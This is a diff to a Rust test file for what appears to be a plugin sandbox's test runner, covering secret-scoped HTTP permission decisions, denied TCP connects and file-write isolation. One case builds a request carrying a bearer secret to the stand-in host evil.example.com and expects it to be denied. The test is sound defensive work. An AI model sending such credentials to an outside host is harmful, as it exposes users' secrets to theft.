@@ -106,10 +106,10 @@ fn models_answer_what_the_case_says_and_nothing_else() {
     );
 }
 
-/// The hostile guest sends one request.
-fn requests(project: &Project, cases: &[(&str, &str)]) -> Finished {
-    let folder = with_cases(project, "hostile", &[], &component("tests/guests", "hostile"), cases);
-    let own = handshake_tests::root().join("tests/guests/hostile/dist/plugin.toml");
+/// The cases of a test guest, with its own manifest.
+fn of_guest(project: &Project, id: &str, cases: &[(&str, &str)]) -> Finished {
+    let folder = with_cases(project, id, &[], &component("tests/guests", id), cases);
+    let own = handshake_tests::root().join("tests/guests").join(id).join("dist/plugin.toml");
     fs::copy(own, std::path::Path::new(&folder).join("plugin.toml")).unwrap();
     project.run(&["plugin", "test", &folder, "--output", "json"])
 }
@@ -117,33 +117,59 @@ fn requests(project: &Project, cases: &[(&str, &str)]) -> Finished {
 #[test]
 fn requests_are_decided_and_answered_from_the_case_and_sockets_are_denied() {
     let project = Project::new();
-    let request = "input = { behaviour = \"http-request\", target = \"api.example.com:80\" }\n";
-    let answer = "[[http]]\nrequest = \"GET http://api.example.com/\"\nstatus = 204\n";
-    let allowed = format!("{request}{answer}[expect]\ndecisions = [\"allow net.http GET http://api.example.com/\"]\n");
-    let refused = format!(
-        "{request}deny = [\"net.http\"]\n[expect]\ndecisions = [\"deny net.http GET http://api.example.com/ (operator-denied)\"]\n"
+    let call = |scheme: &str, authority: &str| {
+        format!(
+            "input = {{ calls = [{{ do = \"request\", scheme = \"{scheme}\", authority = \"{authority}\", path = \"/words\", headers = [[\"authorization\", \"Bearer {{key}}\"]] }}] }}\n"
+        )
+    };
+    let secret = "[secrets.key]\nvalue = \"made-up-value\"\nhosts = [\"https://api.example.com\"]\n";
+    let answer = "[[http]]\nrequest = \"GET https://api.example.com/words\"\nsent = { Authorization = \"Bearer made-up-value\" }\nstatus = 201\nbody = \"three\"\n";
+    let decided = "decisions = [\"allow secrets.use key\", \"allow net.http GET https://api.example.com:443/words\"]\n";
+    let expect = format!("[expect]\n{decided}");
+    let call = |scheme: &str, authority: &str, more: &str| format!("{}{more}", call(scheme, authority));
+    let https = |more: &str| call("https", "api.example.com", &format!("{more}{secret}{answer}{expect}"));
+    let allowed = https("");
+    let wrong = https("").replace("Bearer made-up-value", "Bearer another-value");
+    let refused = call(
+        "https",
+        "api.example.com",
+        &format!(
+            "deny = [\"net.http\"]\n{secret}[expect]\n{}",
+            decided.replace(
+                "allow net.http GET https://api.example.com:443/words",
+                "deny net.http GET https://api.example.com:443/words (operator-denied)"
+            )
+        ),
     );
-    let tcp = "input = { behaviour = \"tcp-connect\", target = \"203.0.113.1:80\" }\n[expect]\ndecisions = [\"deny net.tcp 203.0.113.1:80 (operator-denied)\"]\n";
-    let loopback = "input = { behaviour = \"http-request\", target = \"127.0.0.1:80\" }\n[[http]]\nrequest = \"GET http://127.0.0.1/\"\n";
-    let report =
-        requests(&project, &[("a.toml", &allowed), ("b.toml", &refused), ("c.toml", tcp), ("d.toml", loopback)]);
+    // The value is for this server and `https` alone.
+    let elsewhere = call(
+        "https",
+        "evil.example.com",
+        &format!(
+            "{secret}[expect]\ndecisions = [\"allow secrets.use key\", \"deny net.http GET https://evil.example.com:443/words (not-listed)\"]\n"
+        ),
+    );
+    let tcp = "input = { calls = [{ do = \"connect\", to = \"203.0.113.1:80\" }] }\n[expect]\ndecisions = [\"deny net.tcp 203.0.113.1:80 (operator-denied)\"]\n";
+    let cases = [("a", &*allowed), ("b", &*wrong), ("c", &*refused), ("d", &*elsewhere), ("e", tcp)];
+    let names: Vec<_> = cases.iter().map(|(name, _)| format!("{name}.toml")).collect();
+    let cases: Vec<_> = cases.iter().zip(&names).map(|((_, text), name)| (name.as_str(), *text)).collect();
+    let report = of_guest(&project, "client", &cases);
     let cases = report.json()["cases"].clone();
-    for at in 0..3 {
-        assert_eq!(cases[at]["passed"], true, "{cases:#}");
-    }
-    // Addresses are checked as always, and nothing answers for one that no rule names.
-    assert_eq!(cases[3]["passed"], false, "{cases:#}");
+    let passed: Vec<_> = cases.as_array().unwrap().iter().map(|case| case["passed"] == true).collect();
+    assert_eq!(passed, [true, false, true, true, true], "{cases:#}");
     assert!(
-        cases[3]["expect"].as_str().unwrap().contains("deny net.http GET http://127.0.0.1/ (not-listed)"),
+        cases[1]["mismatches"][0]["what"].as_str().unwrap().contains("header `authorization` arrived as"),
         "{cases:#}"
     );
+    // The step has seen the answer, and never the value.
+    assert!(cases[0]["expect"].as_str().unwrap().contains("allow net.http"), "{cases:#}");
 }
 
 #[test]
 fn files_that_are_written_are_compared_and_the_folder_of_the_case_stays_as_it_was() {
     let project = Project::new();
     let case = "input = { behaviour = \"write-file\", target = \"/out/new.txt\" }\n[mounts]\nout = \"docs\"\n[expect]\nfiles = {}\n";
-    let report = requests(&project, &[("a.toml", case)]);
+    let report = of_guest(&project, "hostile", &[("a.toml", case)]);
     assert_eq!(report.code, 1, "{report:?}");
     assert!(report.stdout.contains("out/new.txt"), "{report:?}");
     assert!(!project.path("own/hostile/tests/docs/new.txt").exists());
